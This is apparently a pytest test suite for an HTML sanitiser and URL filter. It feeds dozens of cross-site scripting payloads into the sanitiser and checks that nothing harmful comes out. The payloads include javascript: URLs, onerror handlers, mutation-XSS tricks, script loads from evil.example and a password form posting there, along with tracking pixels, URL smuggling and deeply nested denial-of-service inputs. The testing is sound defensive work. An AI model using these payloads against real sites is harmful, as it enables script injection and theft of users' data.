"""The sanitiser: nothing that runs, loads, tracks or disguises comes out, whatever goes in."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from octavo.lib.html import LINK_REL, TAGS, clean_html, plain_text, safe_link

BASE = "https://gazette.example/2026/ferry.html"

# Each tries to run script, load something, or act on the page around it.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0ctype=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img srcset="https://evil.example/p.gif 1x" src=javascript:alert(1)>',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>t</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>m</math>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">a</a>',
    '<a href="javascript://gazette.example/%0aalert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="blob:https://gazette.example/x">a</a>',
    '<a href="https:\\\\evil.example\\x">a</a>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    '<p style="position:fixed;inset:0;background:url(//evil.example/c)">x</p>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<video autoplay onplay=alert(1)><source src=x onerror=alert(2)></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    '<div id="header" class="login" name="cookie" data-action="x" slot=s contenteditable>clobber</div>',
    "<p onclick=alert(1) ONFOCUS=alert(1) tabindex=0 accesskey=x>x</p>",
    "<x-widget><slot></slot></x-widget>",
    '<a href="x" target=_blank rel=opener ping=https://evil.example download>a</a>',
    "<table background=javascript:alert(1)><td background=//evil.example/x>t</table>",
    "<blockquote cite=javascript:alert(1)>q</blockquote>",
    "<b><p><i></b></i><script>alert(1)",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "<img src='https://gazette.example/i.png' alt='\"><script>alert(1)</script>'>",
    "<a title='</a><script>alert(1)</script>' href=/x>a</a>",
]

ALLOWED_ATTRIBUTES = {
    "href", "title", "rel", "dir", "cite", "src", "alt", "width", "height", "start", "colspan", "rowspan",
    "scope",
    "datetime",
}  # fmt: skip


def assert_harmless(cleaned: str) -> None:
    """Read ``cleaned`` as a browser would, and find only what is allowed, links included."""
    root = lxml_html.fragment_fromstring(cleaned, create_parent="main")
    for element in root.iterdescendants():
        assert isinstance(element.tag, str), "a comment or an instruction"
        assert element.tag in TAGS, cleaned
        for name, value in element.attrib.items():
            assert name in ALLOWED_ATTRIBUTES, cleaned
            if name in ("href", "src", "cite"):
                assert value.startswith(("https://", "http://", "mailto:")), cleaned
        if element.tag == "a":
            assert element.get("rel") == LINK_REL


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "<p>before {} after</p>", "<table><tr><td>{}", "<ul><li>{}</ul>", "<svg>{}", "<pre>\n{}"]
)
def test_nothing_harmful_comes_out(payload: str, frame: str) -> None:
    cleaned = clean_html(frame.format(payload), BASE)
    assert_harmless(cleaned)
    assert clean_html(cleaned, BASE) == cleaned, "what comes out means the same when it is read again"


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *PAYLOADS,
                "<p>",
                "</p>",
                "<table>",
                "</td>",
                "<svg>",
                "</svg>",
                "<math>",
                "<!--",
                "-->",
                "'",
                '"',
                ">",
                "&lt;",
            ]
        ),
        max_size=8,
    )
)
def test_no_mixture_of_payloads_comes_through(parts: list[str]) -> None:
    assert_harmless(clean_html("".join(parts), BASE))


@settings(deadline=None)
@given(st.text(alphabet="<>/='\"& abpscriptonxjv:;!-\n\t\x00\\#0", max_size=120))
def test_no_noise_comes_through(text: str) -> None:
    assert_harmless(clean_html(text, BASE))
    assert "<" not in plain_text(f"<p>{text.replace('<', '').replace('&', '')}</p>")


@pytest.mark.parametrize(
    "pixel",
    [
        '<img src="https://count.example/p.gif" width="1" height="1">',
        '<img height=1 src="https://count.example/p.gif">',
        '<img src="https://count.example/p.gif" width="0">',
        '<img src="https://count.example/p.gif" width="1px" height="1px" alt="">',
        '<img src="https://count.example/p.gif" style="width:1px; height:1px">',
        '<img src="https://count.example/p.gif" style="display: none">',
        '<img src="https://count.example/p.gif" style="border:0;visibility:hidden">',
        "<img alt='nothing to load'>",
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    ],
)
def test_pictures_that_only_count_readers_are_dropped(pixel: str) -> None:
    assert clean_html(f"<p>Text{pixel}</p>", BASE) == "<p>Text</p>"


def test_real_pictures_stay() -> None:
    kept = clean_html(
        '<img src="/i/quay.jpg" width="1200" height="10" alt="The quay" style="width:100px">', BASE
    )
    assert kept == '<img src="https://gazette.example/i/quay.jpg" width="1200" height="10" alt="The quay">'


def test_prose_stays_as_it_is() -> None:
    prose = (
        "<h2>Ferry</h2><p>The <em>Alba</em> &amp; the <strong>Brisa</strong> sail at 6 &lt; 7.</p>"
        "<blockquote><p>“At last.”</p></blockquote><ul><li>One</li></ul>"
        '<table><tbody><tr><th scope="col">Day</th><td colspan="2">Monday</td></tr></tbody></table>'
        '<p><time datetime="2026-02-28">Saturday</time>, H<sub>2</sub>O<br>new line</p>'
    )
    assert clean_html(prose, BASE) == prose


def test_wrappers_go_and_their_words_stay() -> None:
    assert clean_html("<article><section><font color=red>Red</font></section></article>", BASE) == "Red"
    assert (
        clean_html("<form><p>In a form</p></form><object><p>instead</p></object>", BASE)
        == "<p>In a form</p><p>instead</p>"
    )


def test_links_are_made_absolute() -> None:
    cleaned = clean_html(
        '<a href="../up?a=1&amp;b=2#c">u</a><a href="//cdn.example/x y">c</a>'
        '<a href="mailto:a@b.example">m</a>',
        BASE,
    )
    assert 'href="https://gazette.example/up?a=1&amp;b=2#c"' in cleaned
    assert 'href="https://cdn.example/x%20y"' in cleaned
    assert 'href="mailto:a@b.example"' in cleaned


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 200_000,
        "<div><table><td></div></td></table>" * 20_000,
        "<div><object></div></object>" * 20_000,
        "<a" * 500_000,
        "<a href='" * 100_000,
        "<b><i><u>" * 50_000,
        "<!--" * 200_000,
        "<p>x" * 100_000,
        "<" * 1_000_000,
        "<" + "a" * 1_000_000,
    ],
    ids=lambda value: value[:12],
)
def test_time_grows_with_the_length_alone(hostile: str) -> None:
    started = time.process_time()
    assert_harmless(clean_html(hostile, BASE)[:1_000].rpartition("<")[0])
    plain_text(hostile)
    assert time.process_time() - started < 8, "nesting alone would take minutes"


def test_many_tags_keep_their_words_and_order() -> None:
    items = "".join(f"<li>item {number}<p>more" for number in range(3_000))
    text = plain_text(clean_html(f"<ul>{items}</ul><p>the end", BASE))
    assert text.startswith("item 0 more item 1 more")
    assert text.endswith("item 2999 more the end")


@pytest.mark.parametrize(
    ("fragment", "text"),
    [
        ("<p>One</p><p>two&nbsp;&amp; three</p>", "One two & three"),
        ("Caf&eacute; &#8217;t&#x20;Hof", "Café ’t Hof"),
        ("a < b & c > d", "a < b & c > d"),
        ("line<br>break<br/>twice", "line break twice"),
        ("<script>no</script>yes<style>no</style>", "yes"),
        ("in<b>ter</b>rupted", "interrupted"),
        ("  much \n\t white   space ", "much white space"),
        ("nul\x00 and bell\x07", "nul and bell"),
        ("", ""),
    ],
)
def test_plain_text(fragment: str, text: str) -> None:
    assert plain_text(fragment) == text


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("/a", "https://gazette.example/a"),
        ("b", "https://gazette.example/2026/b"),
        (" https://x.example/ ", "https://x.example/"),
        ("HTTPS://X.example/é", "https://X.example/%C3%A9"),
        ("https://x.example/a%20b?c=d#e", "https://x.example/a%20b?c=d#e"),
        ("https://ada:secret@x.example/", "https://x.example/"),
        ("http://[2001:db8::1]:8080/x", "http://[2001:db8::1]:8080/x"),
        ("https://bücher.example/", "https://bücher.example/"),
        ("javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("mailto:a@b.example", ""),
        ("file:///etc/passwd", ""),
        ("https://x.example\\@evil.example/", ""),
        ("https://x.example/\nSet-Cookie: a", ""),
        ("java\tscript:alert(1)", ""),
        ("https://", ""),
        ("https:evil.example", ""),
        ("https:///evil.example", ""),
        ("https://x.example:99999/", ""),
        ("https://[::1/", ""),
        ("https://a b.example/", ""),
        ("https://x.example%2f@evil.example<b>/", ""),
        ("", ""),
    ],
)
def test_safe_link(url: str, link: str) -> None:
    assert safe_link(url, BASE) == link


@settings(deadline=None)
@given(st.text(max_size=60))
def test_safe_link_is_safe_or_empty(url: str) -> None:
    link = safe_link(url, BASE)
    assert link == "" or link.startswith(("http://", "https://"))
    assert not set('<>"\\ \n\t\r\x00') & set(link)
    assert safe_link(link) == link


@pytest.mark.parametrize(
    ("fragment", "markup"),
    [
        ('one <iframe src="https://a.example/v"/> two', "one  two"),
        ('one <IFRAME src="a>b"><b>two</b></iframe> three', "one <b>two</b> three"),
        ("<iframe><script>alert(1)</script></iframe>", ""),
        ("<scr<iframe>ipt>alert(1)</scr</iframe>ipt>", ""),
        ("one <!-- -- two > three", "one  three"),
        ("one <!-- two --> three", "one  three"),
    ],
)
def test_what_stands_in_frames_and_behind_open_comments_is_cleaned_and_kept(
    fragment: str, markup: str
) -> None:
    assert clean_html(fragment, "https://gazette.example/") == markup
